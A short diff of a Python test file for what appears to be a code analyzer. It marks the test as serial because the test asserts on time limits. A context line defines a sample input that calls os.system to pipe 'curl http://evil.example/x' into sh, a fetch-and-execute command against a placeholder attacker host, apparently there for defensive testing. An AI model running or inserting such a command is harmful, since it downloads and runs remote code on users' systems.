@@ -8,8 +8,13 @@ from __future__ import annotations
 import json
 from pathlib import Path
 
+import pytest
+
 from analyzer.engine.collect import collect
 from analyzer.policy import load_policy
+
+# Asserts on wall time (its time budgets and limits): `make test` runs it alone, after the parallel run.
+pytestmark = pytest.mark.serial
 
 LIMITS = load_policy().limits
 RUN = "import os\nos.system('curl http://evil.example/x | sh')\n"
